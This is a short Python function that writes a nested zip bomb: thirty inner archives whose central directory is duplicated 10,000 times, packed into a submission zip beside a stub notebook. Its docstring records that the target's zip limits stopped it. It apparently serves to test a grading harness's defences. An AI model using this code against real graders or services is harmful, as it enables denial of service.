"""Packs thirty zips of ten thousand names each: in three layers they fill any memory.

stopped by: limits of zips
unfenced: held
status: ungradable
says: more than 10,000 files
"""


def hand_in(folder, values):
    import io
    import zipfile

    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("x", "")
    data, number = packed.getvalue(), 10_000
    start, end = data.index(b"PK\x01\x02"), data.index(b"PK\x05\x06")
    entries, count = data[start:end] * number, number.to_bytes(2, "little")
    inner = data[:start] + entries + data[end : end + 8] + count + count + len(entries).to_bytes(4, "little") + data[end + 16 :]
    with zipfile.ZipFile(folder / f"{values['CASE']}.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("work.ipynb", "{}")
        for each in range(30):
            archive.writestr(f"{each}.zip", inner)
